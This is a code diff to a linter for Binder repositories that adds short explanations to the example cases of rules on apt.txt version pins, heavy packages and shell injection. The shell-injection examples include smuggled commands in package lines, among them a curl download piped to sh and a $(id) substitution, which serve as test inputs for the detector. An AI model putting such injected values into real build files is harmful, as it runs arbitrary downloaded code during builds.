@@ -36,9 +36,9 @@ class AptVersionPin(Rule):
     level = Level.REPRODUCE
     sources = ("repo2docker/buildpacks/base.py",)
     examples = (
-        Bad({**_PIP, "apt.txt": "vim=2:9.1.0016-1ubuntu7  # x\ngit\n"}, at="apt.txt:1:1", fixed={"apt.txt": "vim  # x\ngit\n"}),
-        Good({**_PIP, "apt.txt": "vim=2:9.1*\ngit\nfoo==1.0\n"}),
-        Good({"Dockerfile": "FROM x:1\n", "apt.txt": "vim=1\n"}, why="Binder does not read it"),
+        Bad({**_PIP, "apt.txt": "vim=2:9.1.0016-1ubuntu7  # x\ngit\n"}, at="apt.txt:1:1", fixed={"apt.txt": "vim  # x\ngit\n"}, why="One exact version"),
+        Good({**_PIP, "apt.txt": "vim=2:9.1*\ngit\nfoo==1.0\n"}, why="A pattern, and no version"),
+        Good({"Dockerfile": "FROM x:1\n", "apt.txt": "vim=1\n"}, why="With a Dockerfile, Binder does not read apt.txt"),
     )  # fmt: skip
 
     def check(self, repo: Repository) -> Iterator[Diagnostic]:
@@ -92,12 +92,12 @@ class AptHeavy(Rule):
     severity = Severity.WARNING
     level = Level.POLISH
     examples = (
-        Bad({**_PIP, "apt.txt": "vim\ntexlive-full\n"}, at="apt.txt:2:1"),
-        Bad({**_PIP, "apt.txt": "python3-gdal\nr-base r-cran-ggplot2\njupyter-notebook\n"}, at="apt.txt:1:1", severity=Severity.INFO),
-        Good({**_PIP, "apt.txt": "texlive-xetex\ntexlive-latex-extra\nlibgdal-dev\ngdal-bin\nr-cran\n"}),
-        Good({**_PIP, "apt.txt": "python3-dev\npython3-pip\npython3\npython3-venv\npython3-distutils\n"}, why="tools that a script of the build may call"),
-        Good({**_PIP, "apt.txt": "r-base\n", "postBuild": "#!/bin/bash\nset -e\nRscript -e 'IRkernel::installspec()'\n"}, why="a script uses that R"),
-        Good({"Dockerfile": "FROM x:1\n", "apt.txt": "texlive-full\n"}, why="Binder does not read it"),
+        Bad({**_PIP, "apt.txt": "vim\ntexlive-full\n"}, at="apt.txt:2:1", why="The whole of TeX Live"),
+        Bad({**_PIP, "apt.txt": "python3-gdal\nr-base r-cran-ggplot2\njupyter-notebook\n"}, at="apt.txt:1:1", severity=Severity.INFO, why="Packages of Ubuntu's own Python and R"),
+        Good({**_PIP, "apt.txt": "texlive-xetex\ntexlive-latex-extra\nlibgdal-dev\ngdal-bin\nr-cran\n"}, why="Parts of TeX Live, and libraries"),
+        Good({**_PIP, "apt.txt": "python3-dev\npython3-pip\npython3\npython3-venv\npython3-distutils\n"}, why="Tools that a script of the build may call"),
+        Good({**_PIP, "apt.txt": "r-base\n", "postBuild": "#!/bin/bash\nset -e\nRscript -e 'IRkernel::installspec()'\n"}, why="A script uses Ubuntu's R"),
+        Good({"Dockerfile": "FROM x:1\n", "apt.txt": "texlive-full\n"}, why="With a Dockerfile, Binder does not read apt.txt"),
     )  # fmt: skip
 
     def check(self, repo: Repository) -> Iterator[Diagnostic]:
@@ -156,10 +156,10 @@ class AptShellInjection(Rule):
     level = Level.REPRODUCE
     sources = ("repo2docker/buildpacks/base.py",)
     examples = (
-        Bad({**_PIP, "apt.txt": "git\nvim && touch /x\n"}, at="apt.txt:2:1"),
-        Bad({**_PIP, "apt.txt": "vim; curl https://example.org | sh\nfoo>=1.0\nfoo$(id)\n"}, at=("apt.txt:1:1", "apt.txt:2:1", "apt.txt:3:1")),
-        Good({**_PIP, "apt.txt": "vim git\n# a && b; c\nfoo=1:2~3+4\n"}),
-        Good({"Dockerfile": "FROM x:1\n", "apt.txt": "vim && x\n"}, why="Binder does not read it"),
+        Bad({**_PIP, "apt.txt": "git\nvim && touch /x\n"}, at="apt.txt:2:1", why="A second command"),
+        Bad({**_PIP, "apt.txt": "vim; curl https://example.org | sh\nfoo>=1.0\nfoo$(id)\n"}, at=("apt.txt:1:1", "apt.txt:2:1", "apt.txt:3:1"), why="A download, a version, and a command in brackets"),
+        Good({**_PIP, "apt.txt": "vim git\n# a && b; c\nfoo=1:2~3+4\n"}, why="Names, and a comment"),
+        Good({"Dockerfile": "FROM x:1\n", "apt.txt": "vim && x\n"}, why="With a Dockerfile, Binder does not read apt.txt"),
     )  # fmt: skip
 
     def check(self, repo: Repository) -> Iterator[Diagnostic]:
